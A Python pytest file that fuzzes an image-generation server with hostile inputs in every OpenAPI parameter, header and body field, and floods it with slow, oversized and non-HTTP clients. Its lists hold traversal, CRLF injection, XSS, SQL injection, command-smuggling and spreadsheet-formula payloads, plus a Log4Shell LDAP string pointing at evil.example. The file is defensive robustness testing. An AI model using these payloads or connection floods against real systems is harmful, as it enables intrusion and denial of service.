"""Hostile bytes in every parameter that the OpenAPI document names, and clients that are slow, huge or many.

None gets a 500, none has a header reflected, and whoever else is there draws the same picture in the same time.
"""

from __future__ import annotations

import contextlib
import json
import resource
import socket
import statistics
import time
from collections.abc import Iterator
from urllib.parse import quote

import httpx2
import pytest

from server.access.body_limit import MAX_BODY_BYTES
from server.access.client_timeouts import ClientTimeouts
from server.dialects.base import ERROR_CODE_HEADER

GOOD = {"prompt": "a cat on a mat", "seed": 42, "num_inference_steps": 2}
MARK = b"x-injected"

TRAVERSAL = [
    b"..", b"../..", b"../../../../etc/passwd", b"..%2f..%2fetc%2fpasswd", b"%2e%2e%2f%2e%2e%2fetc/passwd",
    b"..%5c..%5cwin.ini", b"..%252f..%252fetc", b"....//....//etc", b"%c0%ae%c0%ae%c0%af", b"%2fetc%2fpasswd",
    b"//etc/passwd", b"/etc/passwd", b".%00./", b"file:///etc/passwd", b"%5c%5chost%5cshare", b"jobs.db", b"..;/",
    b".git/config", b"%2e", b"~root", b"C:%5cboot.ini",
]  # fmt: skip
INJECTION = [
    b"a%0d%0aX-Injected:%20yes", b"a%0aX-Injected:%20yes", b"a%0dX-Injected:%20yes",
    b"a%0d%0a%0d%0a<script>alert(1)</script>", b"%E5%98%8A%E5%98%8DX-Injected:%20yes", b"a%00X-Injected",
    b"%3Cscript%3Ealert(1)%3C/script%3E", b"'%20OR%201=1--", b"%27;DROP%20TABLE%20jobs;--",
    b"${jndi:ldap://evil.example/a}", b"{{7*7}}", b"%7B%7B7*7%7D%7D", b"$(id)", b"`id`", b"|id", b"%n%n%s%s",
]  # fmt: skip
ENCODINGS = [
    b"%", b"%%", b"%4", b"%zz", b"%u0041", b"%ff%fe", b"%80", b"%c0%80", b"%ed%a0%80", b"%f4%90%80%80", b"%00",
    b"%7f", b"%1b[31m", b"%c2%85", b"%e2%80%ae", b"%ef%bb%bf", b"%ef%bc%8e%ef%bc%8e%ef%bc%8f", b"%f0%9f%92%a5",
    b"%cc%81" * 50, b"+", b"%20", b";", b"a=b&c=d", b"a#b", b"x" * 4000, b"9" * 400, b"-1", b"1e400", b"NaN", b"0x10",
    b"%d9%a1%d9%a2", b"null", b"[]", b"true",
]  # fmt: skip
CORPUS = TRAVERSAL + INJECTION + ENCODINGS

RAW = [bytes([byte]) for byte in (*range(0x20), 0x7F, 0x80, 0xC0, 0xFF)] + [
    b"\r\nX-Injected: yes",
    b"\nX-Injected: yes",
]
"""Bytes that may not stand in a head at all."""

HEADER_VALUES = [
    b"", b" ", b"\t", b"a b", b"a, b", b'"', b"%0d%0aX-Injected: yes", b"\xe5\x98\x8a\xe5\x98\x8dX-Injected: yes",
    b"\xff\xfe", b"\xc3\xa4", b"x" * 256, b"x" * 20_000, b"../../etc/passwd", b"' OR 1=1--", b"<script>",
    b"${jndi:ldap://x}", b"a;b=c", b"*", b"\x1b[31m", b"\xe2\x80\xae",
]  # fmt: skip
HEADERS = [
    b"Idempotency-Key", b"Accept", b"Prefer", b"X-Request-Id", b"If-None-Match", b"Last-Event-ID", b"Range",
    b"If-Modified-Since", b"Host", b"Origin", b"Accept-Encoding", b"Authorization", b"X-API-Key", b"Cookie",
    b"Expect", b"Content-Encoding", b"X-HTTP-Method-Override", b"Referer", b"Upgrade",
]  # fmt: skip
STRINGS = [
    "../../etc/passwd", "a\r\nX-Injected: yes", "a\nX-Injected: yes", "a\0b", "\u560a\u560dX-Injected: yes",
    "\u202ea", "\ufeff", "\ud800", "é" * 64, "💥" * 64, "' OR 1=1--", "=cmd|' /C calc'!A0",
    "<script>alert(1)</script>", "${jndi:ldap://x}", "{{7*7}}", "x" * 10_000, "\x1b[31m", "", " ", "%0d%0a",
]  # fmt: skip


class Connection:
    """One kept-alive connection, opened anew where the server has closed it; what it says is parsed by hand, so that a
    header nobody should have sent is seen."""

    def __init__(self, port: int) -> None:
        self._port = port
        self._socket: socket.socket | None = None
        self._kept = b""

    def ask(self, request: bytes) -> tuple[int, bytes, bytes]:
        """Status, head and body of the answer; status 0 if the connection was closed without one."""
        for _ in range(2):
            if self._socket is None:
                self._socket, self._kept = socket.create_connection(("127.0.0.1", self._port), timeout=10), b""
                is_fresh = True
            else:
                is_fresh = False
            try:
                self._socket.sendall(request)
                answer = self._answer()
            except (BrokenPipeError, ConnectionResetError):
                answer = None
            if answer is not None:
                return answer
            self.close()
            if is_fresh:
                break
        return 0, b"", b""

    def close(self) -> None:
        if self._socket is not None:
            self._socket.close()
            self._socket = None

    def _answer(self) -> tuple[int, bytes, bytes] | None:
        while b"\r\n\r\n" not in self._kept:
            if not self._more():
                return None
        head, _, self._kept = self._kept.partition(b"\r\n\r\n")
        fields = dict(line.lower().split(b": ", 1) for line in head.split(b"\r\n")[1:])
        if fields.get(b"transfer-encoding") == b"chunked":
            while not self._kept.endswith(b"0\r\n\r\n"):
                assert self._more()
            body, self._kept = self._kept, b""
        else:
            length = int(fields.get(b"content-length", 0))
            while len(self._kept) < length:
                assert self._more()
            body, self._kept = self._kept[:length], self._kept[length:]
        if fields.get(b"connection") == b"close":
            self.close()
        return int(head.split()[1]), head, body

    def _more(self) -> bool:
        data = self._socket.recv(65536)
        self._kept += data
        return bool(data)


@pytest.fixture(scope="module")
def connection(server) -> Iterator[Connection]:
    connection = Connection(server.port)
    yield connection
    connection.close()


@pytest.fixture(scope="module")
def operations(server) -> list[tuple[str, str, list[dict]]]:
    paths = httpx2.get(f"{server.url}/openapi.json").json()["paths"]
    return [
        (method.upper(), path, operation.get("parameters", []))
        for path, methods in paths.items()
        for method, operation in methods.items()
    ]


@pytest.fixture(scope="module")
def picture(server) -> bytes:
    return httpx2.post(f"{server.url}/generate", json=GOOD).content


@pytest.fixture(autouse=True)
def unharmed(server, picture):
    yield
    assert httpx2.post(f"{server.url}/generate", json=GOOD).content == picture


BODY = json.dumps(GOOD | {"num_inference_steps": 1}).encode()


def request(method: str, target: bytes, headers: bytes = b"", body: bytes | None = None) -> bytes:
    head = b"%s %s HTTP/1.1\r\nHost: 127.0.0.1\r\n%s" % (method.encode(), target, headers)
    if method != "POST":
        return head + b"\r\n"
    body = BODY if body is None else body
    return head + b"Content-Type: application/json\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body)


def assert_unimpressed(answer: tuple[int, bytes, bytes], asked: bytes) -> None:
    status, head, body = answer
    assert 200 <= status < 500, (asked[:300], status, body[:500])
    names = [line.split(b":")[0].lower() for line in head.split(b"\r\n")[1:]]
    assert MARK not in names, asked[:300]
    assert len(names) == len(set(names)), (asked[:300], names)
    assert b"root:" not in body
    assert b"[core]" not in body
    assert b"Traceback" not in body
    if status >= 400:
        is_in_a_dialect = ERROR_CODE_HEADER.lower().encode() in names
        assert is_in_a_dialect or b"content-type: application/problem+json" in head, asked[:300]
        assert len(body) < 10_000


def filled(path: str, name: str, value: bytes) -> bytes:
    """The path with `value` in the place of one parameter, and something that names nothing in the others'."""
    target = path.encode().replace(b"{%s}" % name.encode(), value)
    return target.replace(b"{job_id}", b"0" * 16).replace(b"{index}", b"0")


def test_hostile_values_in_every_path_and_query_parameter(connection, operations):
    asked = 0
    for method, path, parameters in operations:
        for parameter in parameters:
            name = parameter["name"]
            for value in CORPUS if parameter["in"] in {"path", "query"} else []:
                if parameter["in"] == "path":
                    target = filled(path, name, value)
                else:
                    target = filled(path, "", b"") + b"?" + name.encode() + b"=" + value
                hostile = request(method, target)
                assert_unimpressed(connection.ask(hostile), hostile)
                asked += 1
    assert asked > 500


def test_hostile_paths_beside_those_that_are_there(connection):
    for folder in (b"/", b"/static/", b"/static/app/", b"/v1/", b"/v1/jobs/", b"/docs/"):
        for value in CORPUS:
            hostile = request("GET", folder + value)
            answer = connection.ask(hostile)
            assert_unimpressed(answer, hostile)
            assert b"import" not in answer[2][:20], "a source file"


def test_hostile_values_in_every_header(connection, operations):
    documented = {p["name"].encode() for _, _, parameters in operations for p in parameters if p["in"] == "header"}
    assert documented <= set(HEADERS)
    for name in HEADERS:
        for value in HEADER_VALUES:
            for method, target in (("POST", b"/generate"), ("GET", b"/v1/jobs"), ("GET", b"/static/docs.js")):
                hostile = request(method, target, b"%s: %s\r\n" % (name, value))
                assert_unimpressed(connection.ask(hostile), hostile)


def test_bytes_that_no_head_may_hold(server, connection):
    """
    A parser may take some of them (a bare LF has always ended lines); what counts is that nothing comes of it.
    """
    for raw in RAW:
        for hostile in (
            request("GET", b"/v1/jobs?user=a" + raw + b"b"),
            request("GET", b"/v1/jobs/" + raw),
            request("GET", b"/livez", b"X-Request-Id: a" + raw + b"b\r\n"),
            request("POST", b"/generate", b"Idempotency-Key: a" + raw + b"b\r\n"),
            request("GET", b"/livez", b"X-A" + raw + b"b: c\r\n"),
        ):
            with contextlib.closing(Connection(server.port)) as alone:
                answer = alone.ask(hostile)
            assert_unimpressed(answer, hostile)


def test_hostile_strings_in_every_text_of_the_body(connection):
    for field in (
        "prompt",
        "negative_prompt",
        "user",
        "sampler",
        "noise_schedule",
        "output_format",
        "\r\nX-Injected: yes",
    ):
        for text in STRINGS:
            wish = GOOD | {"num_inference_steps": 1, field: text}
            for target in (b"/generate", b"/v1/jobs"):
                hostile = request("POST", target, body=json.dumps(wish).encode())
                assert_unimpressed(connection.ask(hostile), hostile)


def test_what_was_taken_as_a_user_is_found_by_that_name_and_by_no_other(connection):
    for user in ("../../etc", "' OR 1=1--", "%", "_", "a\u202eb", "💥"):
        wish = json.dumps(GOOD | {"user": user}).encode()
        assert connection.ask(request("POST", b"/v1/jobs", body=wish))[0] == 202
        status, _, body = connection.ask(request("GET", f"/v1/jobs?limit=100&user={quote(user, safe='')}".encode()))
        assert status == 200
        assert {job["user"] for job in json.loads(body)["jobs"]} == {user}


# Clients that are slow, huge or many. Each limit by itself: tests/server/access/test_connections.py.


def picture_seconds(server) -> float:
    """How long a picture takes somebody else; the median of a few."""
    seconds = []
    with httpx2.Client(base_url=server.url, timeout=20) as client:
        for _ in range(7):
            began = time.perf_counter()
            assert client.post("/generate", json=GOOD).status_code == 200
            seconds.append(time.perf_counter() - began)
    return statistics.median(seconds)


SLOW_HEAD = b"POST /generate HTTP/1.1\r\nHost: 127.0.0.1\r\n"
SLOW_BODY = SLOW_HEAD + b"Content-Type: application/json\r\nContent-Length: 1000\r\n\r\n{"
HUGE_BODY = SLOW_HEAD + b"Content-Type: application/json\r\nContent-Length: 1000000000\r\n\r\n" + b"x" * MAX_BODY_BYTES
CHUNKED = (
    SLOW_HEAD
    + b"Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"
    + b"10000\r\n"
    + b"x" * 65536
    + b"\r\n"
)


USELESS = {
    "idle": (500, b"", 0),
    "slow head": (200, SLOW_HEAD, 408),
    "slow body": (200, SLOW_BODY, 408),
    "huge body": (10, HUGE_BODY, 413),
    "slow chunks": (100, CHUNKED, 408),
    "not HTTP": (200, b"\x16\x03\x01", 400),
}
"""How many there are, what each says, and the status it gets in the end; 0: the connection is closed without a word."""


@contextlib.contextmanager
def useless_clients(server, kind: str, many: int) -> Iterator[list[socket.socket]]:
    with contextlib.ExitStack() as stack:
        connections = []
        for _ in range(many):
            connection = stack.enter_context(socket.create_connection(("127.0.0.1", server.port), timeout=5))
            connection.settimeout(0)
            with contextlib.suppress(BlockingIOError, BrokenPipeError, ConnectionResetError):
                connection.send(USELESS[kind][1])
            connections.append(connection)
        yield connections


def status_told(connection: socket.socket, timeout_s: float) -> int | None:
    """Of the first answer on a connection; 0 if it is closed without one, None if there is nothing within that time."""
    connection.settimeout(timeout_s)
    told = b""
    try:
        while len(told) < len(b"HTTP/1.1 200 ") and (data := connection.recv(65536)):
            told += data
    except (BlockingIOError, TimeoutError):
        return None
    return int(told.split()[1]) if told else 0


@pytest.mark.parametrize("kind", USELESS)
def test_many_clients_that_are_no_use_do_not_keep_others_waiting(server, kind):
    many, _, status = USELESS[kind]
    if resource.getrlimit(resource.RLIMIT_NOFILE)[0] < 2 * many + 200:
        pytest.skip("the limit of open files is too low to open so many connections at both ends")
    before = picture_seconds(server)
    with useless_clients(server, kind, many) as connections:
        meanwhile = picture_seconds(server)
        is_told_at_once = status in {400, 413}
        told = {status_told(connection, 5 if is_told_at_once else 0) for connection in connections}
    assert told <= ({status} if is_told_at_once else {None, status}), "whoever is slow may be still waited for"
    # Generous, since the machine is shared: being kept waiting would take seconds.
    assert meanwhile < 3 * before + 0.5


def test_each_of_them_is_told_what_is_wrong_or_hung_up_on_and_nobody_gets_a_500(serve, picture):
    server = serve(guards={"timeouts": ClientTimeouts(head_s=0.5, body_s=0.5, body_bytes_per_s=2**20)})
    many = 20
    with contextlib.ExitStack() as stack:
        clients = {kind: stack.enter_context(useless_clients(server, kind, many)) for kind in USELESS}
        told = {kind: {status_told(connection, 10) for connection in clients[kind]} for kind in USELESS}
        assert httpx2.post(f"{server.url}/generate", json=GOOD).content == picture
    assert told == {kind: {status} for kind, (_, _, status) in USELESS.items()}


def test_many_clients_that_close_their_half_are_gone_and_nothing_is_drawn_for_them(server):
    wish = json.dumps(GOOD | {"num_inference_steps": 100}).encode()
    for _ in range(20):
        with socket.create_connection(("127.0.0.1", server.port), timeout=5) as connection:
            connection.sendall(request("POST", b"/generate", body=wish))
            connection.shutdown(socket.SHUT_WR)
            with contextlib.suppress(ConnectionResetError):
                connection.recv(10)
    deadline = time.monotonic() + 10
    while (queue := httpx2.get(f"{server.url}/v1/queue").json())["running"] or queue["waiting"]:
        assert time.monotonic() < deadline
        time.sleep(0.05)
